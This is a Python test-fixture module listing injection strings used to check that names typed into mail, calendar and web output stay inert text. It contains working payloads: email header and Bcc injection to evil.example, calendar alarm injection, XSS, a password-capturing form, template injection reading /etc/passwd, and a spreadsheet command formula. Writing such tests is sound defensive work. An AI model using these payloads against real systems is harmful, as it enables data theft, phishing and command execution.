"""What people type who want more than their words to arrive: headers, calendar properties, markup. Pure.

The one rule: whatever is typed is somebody's name or answer; a mail, an invitation or a page holds it as text or not
at all.
"""

from typing import Final

MARK: Final = "zyxmark"
"""Stands in everything that is injected: where it is found as more than text, something got through."""

TEXTS: Final = (
    f"Vera\r\nBcc: {MARK}@evil.example",
    f"Vera\nX-{MARK}: 1",
    f"Vera\r\n\r\n<html>{MARK}",
    f"Vera\r\n\t{MARK}: folded",
    f"Vera\x0b\x0c\x1c\x85\u2028\u2029Bcc: {MARK}@evil.example",
    f"=?utf-8?q?Vera=0D=0ABcc=3A_{MARK}=40evil.example?=",
    "=?utf-8?b?VmVyYQ0KQmNjOiB6eXhtYXJrQGV2aWwuZXhhbXBsZQ==?=",
    f'"Vera" <{MARK}@evil.example>, "x',
    f"Vera\r\nATTACH:https://evil.example/{MARK}",
    f"Vera\nEND:VEVENT\nBEGIN:VALARM\nACTION:EMAIL\nATTENDEE:mailto:{MARK}@evil.example\nEND:VALARM\nBEGIN:VEVENT",
    f"Vera\\nATTENDEE:mailto:{MARK}@evil.example",
    f"Vera;X-{MARK}=1:mailto:{MARK}@evil.example",
    f'Vera";RSVP=TRUE;X-{MARK}="',
    f"Vera^n^'ATTENDEE:{MARK}",
    f"Vera\x00\x0bX-{MARK}:1",
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"\"><a href='https://evil.example/{MARK}'>click</a>",
    f"</td></tr></table><form action=https://evil.example/{MARK}><input name=password>",
    f"<!--{MARK}--><style>*{{display:none}}</style>",
    f"javascript:{MARK}()",
    f"{{{{ 7*7 }}}} {{% include '/etc/passwd' %}} ${{{MARK}}}",
    f"&lt;b&gt;{MARK}&#x3c;script&#x3e;",
    f"\u202e{MARK}\u2066\u200b",
    f"=cmd|' /C {MARK}'!A0",
    "x" * 150 + f"\r\n {MARK}: 1",
)
